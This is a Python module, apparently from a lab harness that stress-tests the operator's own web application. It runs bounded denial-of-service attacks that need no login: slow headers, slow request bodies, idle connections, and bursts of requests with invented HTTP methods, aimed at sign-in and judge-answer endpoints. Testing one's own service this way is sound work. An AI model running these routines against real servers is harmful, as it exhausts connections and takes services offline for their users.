"""Attacks that need no account: half requests, silence, and words that are no methods.

All are bounded: so many connections, until so many seconds are over.
"""

import contextlib
import socket
import time
from collections.abc import Iterator

from lab.attack.sending import Attacker

CONNECTIONS = 300  # of one attack
DRIP_S = 1.0  # from one byte to the next
METHODS = 2000


@contextlib.contextmanager
def _opened(attacker: Attacker, sent: bytes) -> Iterator[list[socket.socket]]:
    lines = []
    try:
        for _ in range(CONNECTIONS):
            with contextlib.suppress(OSError):
                line = socket.create_connection(attacker.address, timeout=2)
                lines.append(line)
                line.sendall(sent)
        yield lines
    finally:
        for line in lines:
            line.close()


def _drip(attacker: Attacker, sent: bytes, drop: bytes) -> None:
    with _opened(attacker, sent) as lines:
        while not attacker.is_over():
            for line in lines:
                with contextlib.suppress(OSError):
                    line.sendall(drop)
            attacker.wait(DRIP_S)


def slow_headers(attacker: Attacker) -> None:
    """Send headers, one letter per second."""
    _drip(attacker, b"POST /sign-in/ HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", b"a")


def slow_bodies(attacker: Attacker) -> None:
    """Send bodies, one letter per second: judges' messages and long forms."""
    head = b"POST /api/judge/abc/answers/ HTTP/1.1\r\nHost: localhost\r\n"
    _drip(attacker, head + b"Content-Length: 100000\r\n\r\n{", b"a")


def idle(attacker: Attacker) -> None:
    """Open connections and send nothing."""
    _drip(attacker, b"", b"")


def methods(attacker: Attacker) -> None:
    """Send requests with invented methods, each a different one."""
    for n in range(METHODS):
        if attacker.is_over():
            return
        attacker.ask(f"INVENTED-{n}", "/sign-in/")
        time.sleep(0.002)
